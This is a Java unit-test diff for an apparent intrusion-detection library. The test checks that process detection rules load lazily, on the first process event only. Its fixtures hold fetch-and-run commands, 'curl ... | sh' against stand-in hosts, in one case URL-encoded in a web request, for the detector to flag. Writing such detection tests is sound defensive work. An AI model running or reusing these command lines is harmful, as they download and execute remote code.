@@ -111,4 +111,26 @@ class ProcessRulesTest {
         DETECTOR.inspect(p, out::add);
         return out;
     }
+
+    @Test
+    void lazyDetectorsLoadTheRulesOnTheFirstProcessEventOnly() {
+        // a scan of an access log alone must not pay for loading and compiling the process rules
+        java.util.concurrent.atomic.AtomicInteger loads = new java.util.concurrent.atomic.AtomicInteger();
+        List<dev.vigil.detect.Detector> ds = ProcessRules.lazyDetectors(() -> {
+            loads.incrementAndGet();
+            return RULES;
+        }, CATALOGUE, false, dev.vigil.analyze.process.WebWorkers.defaults());
+        List<Detection> out = new ArrayList<>();
+        dev.vigil.event.HttpRequest request = dev.vigil.event.HttpRequest.builder(new Origin("t", 1, 0)).method("GET")
+                .target("/?q=curl%20http://x/a.sh%7Csh").status(200).build();
+        ds.get(0).inspect(request, out::add);
+        assertThat(loads.get()).isZero();
+        assertThat(out).isEmpty();
+        ProcessStart p = ProcessStart.builder(new Origin("t", 2, 0)).exe("/usr/bin/curl")
+                .commandLine("curl -s http://203.0.113.5/x.sh | sh").build();
+        ds.get(0).inspect(p, out::add);
+        assertThat(out).isNotEmpty();
+        assertThat(((ProcessLineage) ds.get(1)).ruleCount()).isPositive();
+        assertThat(loads.get()).isEqualTo(1);
+    }
 }
